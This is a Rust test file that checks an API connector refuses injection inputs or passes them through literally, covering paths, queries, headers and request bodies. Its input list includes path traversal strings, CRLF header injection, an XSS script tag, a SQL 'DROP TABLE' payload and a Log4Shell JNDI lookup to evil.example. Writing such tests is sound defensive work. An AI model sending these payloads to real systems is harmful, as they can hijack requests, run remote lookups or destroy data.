//! Values made to lead a call elsewhere: each is refused, or arrives as the one value that it is.

use bytes::Bytes;
use connector_runtime::{Body, Operation, Parameter, Place as Part};
use percent_encoding::percent_decode_str;
use reqwest::Url;
use serde_json::{Value, json};

use super::schema_walk::{Place, places};
use super::{Dry, INPUTS};

/// Texts that mean something in an address, a header, a log, a query language or a page.
const TEXTS: [&str; 22] = [
    "1/../2",
    "../../v2/orders",
    "1?x=1",
    "1#x",
    "a&limit=1&b=c",
    "%2e%2e",
    "%0d%0aX-Evil: 1",
    "1\r\nX-Evil: y",
    "a\nb",
    "\0",
    "a\0b",
    "\u{7f}\u{1b}[31m",
    "\u{2028}\u{202e}\u{feff}",
    "Jär 🫙 ¼",
    "+ +",
    "\"\\",
    "<script>alert(1)</script>",
    "'; DROP TABLE products; --",
    "${jndi:ldap://evil.example}",
    "{product_id}",
    "//evil.example/@x",
    " ",
];

/// JSON that stands where a number should, and would be another resource if it were believed.
const NO_IDS: [&str; 24] = [
    r#""1""#,
    r#""1/../2""#,
    r#""1?x=1""#,
    r#""1#x""#,
    r#""%2e%2e""#,
    r#""..""#,
    r#""1\r\nX: y""#,
    r#""\u0000""#,
    r#""1,2""#,
    r#"" 1""#,
    r#""""#,
    "-1",
    "0",
    "-0",
    "1.5",
    "0.1e-5",
    "9223372036854775808",
    "-9223372036854775809",
    "18446744073709551616",
    "1e300",
    "null",
    "true",
    "[1]",
    r#"{"id":1}"#,
];

fn operation(id: &str) -> &'static Operation {
    INPUTS.connector().action(id).unwrap().operation
}

fn parameter(id: &str, place: &Place<'_>) -> &'static Parameter {
    let name = place.way.parameter();
    operation(id).parameters.iter().find(|parameter| parameter.name == name).unwrap()
}

/// Every place of every action's input, but for the whole.
fn all_places() -> impl Iterator<Item = (&'static str, Place<'static>)> {
    let all = INPUTS.iter().flat_map(|(id, schema)| places(schema).into_iter().map(move |place| (id, place)));
    all.filter(|(_, place)| place.way.len() > 0)
}

/// The segments of a path without their percent-encoding.
fn segments(uri: &http::Uri) -> Vec<String> {
    let decoded = |segment: &str| percent_decode_str(segment).decode_utf8().unwrap().into_owned();
    uri.path().split('/').map(decoded).collect()
}

/// The segment that carries this parameter.
fn segment_of<'p>(id: &str, parameter: &str, segments: &'p mut [String]) -> &'p mut String {
    let mut template = operation(id).path.rsplit('/');
    let from_end = template.position(|part| part == format!("{{{parameter}}}")).unwrap();
    let index = segments.len() - 1 - from_end;
    &mut segments[index]
}

/// The body with its envelope of one item taken off.
fn fields(operation: &Operation, request: &http::Request<Bytes>) -> Value {
    let body: Value = serde_json::from_slice(request.body()).unwrap();
    if operation.body == Body::ListOfOne { body[0].clone() } else { body }
}

#[test]
fn an_id_in_a_path_is_a_number_within_its_bounds_and_nothing_else() {
    let dry = Dry::new();
    let mut count = 0;
    let is_id = |id: &str, place: &Place<'_>| {
        parameter(id, place).place == Part::Path && place.schema["type"] == "integer"
    };
    for (id, place) in all_places().filter(|(id, place)| is_id(id, place)) {
        let name = place.way.to_string();
        let least = place.schema["minimum"].as_f64().unwrap_or(f64::MIN);
        let is_refused = |json: &&str| json.parse::<i64>().map_or(true, |number| (number as f64) < least);
        for json in NO_IDS.into_iter().filter(is_refused) {
            assert_eq!(dry.blamed(id, &place.input_with_raw(json)), [name.as_str()], "{id} {json}");
        }
        // Beyond what any number type holds, the text is refused as a whole.
        dry.refusal(id, &place.input_with_raw("1e400"));
        for (json, segment) in
            [("7", "7"), ("7.0", "7"), ("7e2", "700"), ("9223372036854775807", "9223372036854775807")]
        {
            let input = place.input_with_raw(json);
            if INPUTS.accept(id, &input.parse().unwrap()) {
                let request = dry.request(id, &input);
                let mut segments = segments(request.uri());
                assert_eq!(
                    *segment_of(id, parameter(id, &place).wire, &mut segments),
                    segment,
                    "{id} {json}: {}",
                    request.uri()
                );
            }
        }
        count += 1;
    }
    assert!(count > 0, "no action has an id in its path");
}

#[test]
fn a_text_arrives_as_itself_or_is_refused_and_nothing_else_changes() {
    let dry = Dry::new();
    let (mut sent, mut refused) = (0, 0);
    for (id, place) in all_places().filter(|(_, place)| place.is_text()) {
        let parameter = parameter(id, &place);
        let usual = dry.request(id, &place.input().to_string());
        for text in TEXTS {
            let input = place.input_with(json!(text));
            if !INPUTS.accept(id, &input) {
                assert_eq!(dry.blamed(id, &input.to_string()), [place.way.to_string()], "{id} {input}");
                refused += 1;
                continue;
            }
            let request = dry.request(id, &input.to_string());
            let name = parameter.wire;
            assert_eq!(request.method(), usual.method());
            assert_eq!(request.uri().host(), usual.uri().host());
            if parameter.place != Part::Header {
                assert_eq!(request.headers(), usual.headers(), "{id} {input}");
            }
            if parameter.place != Part::Path {
                assert_eq!(request.uri().path(), usual.uri().path(), "{id} {input}");
            }
            match parameter.place {
                Part::Query | Part::RepeatedQuery => {
                    let url = Url::parse(&request.uri().to_string()).unwrap();
                    let pairs: Vec<_> = url.query_pairs().filter(|(other, _)| other == name).collect();
                    assert_eq!(pairs, [(name.into(), text.into())], "{id} {input}");
                    let count = |uri: &http::Uri| uri.query().unwrap().split('&').count();
                    assert_eq!(count(request.uri()), count(usual.uri()), "{id} {input}");
                }
                Part::Body => {
                    assert_eq!(request.uri(), usual.uri(), "{id} {input}");
                    let mut expected = fields(operation(id), &usual);
                    *expected[name].pointer_mut(&place.way.pointer_below()).unwrap() = json!(text);
                    assert_eq!(fields(operation(id), &request), expected, "{id} {input}");
                }
                Part::Payload => {
                    assert_eq!(request.uri(), usual.uri(), "{id} {input}");
                    let json = |body: &Bytes| serde_json::from_slice::<Value>(body).unwrap();
                    let mut expected = json(usual.body());
                    *expected.pointer_mut(&place.way.pointer_below()).unwrap() = json!(text);
                    assert_eq!(json(request.body()), expected, "{id} {input}");
                }
                Part::Path => {
                    let mut expected = segments(usual.uri());
                    *segment_of(id, parameter.wire, &mut expected) = text.to_owned();
                    assert_eq!(segments(request.uri()), expected, "{id} {input}");
                }
                Part::Header => {
                    let mut expected = usual.headers().clone();
                    expected.insert(parameter.wire, text.trim().parse().unwrap());
                    assert_eq!(request.headers(), &expected, "{id} {input}");
                }
                other => panic!("{id} carries a text in {other:?}, where no test looks"),
            }
            sent += 1;
        }
    }
    assert!(sent > 0 && refused > 0, "{sent} sent, {refused} refused");
}

#[test]
fn half_a_surrogate_pair_is_no_text() {
    let dry = Dry::new();
    for (id, place) in all_places() {
        for half in [r#""\ud800""#, r#""\udc00\ud800""#, r#"{"\ud800":1}"#, r#"[{"a":["\ud800"]}]"#] {
            dry.refusal(id, &place.input_with_raw(half));
        }
    }
}

#[test]
fn a_value_of_any_depth_is_refused_and_not_recursed_into() {
    let dry = Dry::new();
    for (id, place) in all_places() {
        for (open, close) in [("[", "]"), (r#"{"a":"#, "}")] {
            let nested = format!("{}1{}", open.repeat(5_000), close.repeat(5_000));
            dry.refusal(id, &place.input_with_raw(&nested));
        }
    }
}

#[test]
fn a_long_text_without_a_bound_is_sent_whole_in_a_body_and_never_cut_in_an_address() {
    let dry = Dry::new();
    let long = "x".repeat(200_000);
    for (id, place) in all_places().filter(|(_, place)| place.is_text()) {
        let input = place.input_with(json!(long));
        let in_address =
            [Part::Query, Part::RepeatedQuery, Part::Path].contains(&parameter(id, &place).place);
        if in_address || !INPUTS.accept(id, &input) {
            let error = dry.refusal(id, &input.to_string());
            assert!(!format!("{error} {error:?}").contains("xxxxx"), "{id} {}", place.way);
        } else {
            let request = dry.request(id, &input.to_string());
            let header = request.headers().get(parameter(id, &place).wire).map_or(0, |value| value.len());
            assert!(request.body().len() + header >= long.len(), "{id} {}", place.way);
        }
    }
}

#[test]
fn of_a_field_given_twice_the_last_counts_whole_and_the_first_must_be_right_too() {
    let dry = Dry::new();
    for (id, schema) in INPUTS.iter() {
        let all = places(schema);
        for place in all.iter().filter(|place| place.way.len() > 1) {
            let name = place.way.parameter();
            let top = all.iter().find(|top| top.way.to_string() == name).unwrap();
            let last = top.input();
            let twice =
                |first: &Value| top.input_with_raw(&format!("{first},{}:{}", json!(name), last[name]));
            let request = dry.request(id, &twice(&place.input()[name]));
            let expected = dry.request(id, &last.to_string());
            assert_eq!(
                (request.uri(), request.body()),
                (expected.uri(), expected.body()),
                "{id} {}",
                place.way
            );
            let Some(wrong) = place.wrong_types().pop() else { continue };
            let wrong = place.input_with(wrong.value);
            assert_eq!(dry.blamed(id, &twice(&wrong[name])), [place.way.to_string()], "{id} {}", place.way);
        }
    }
}
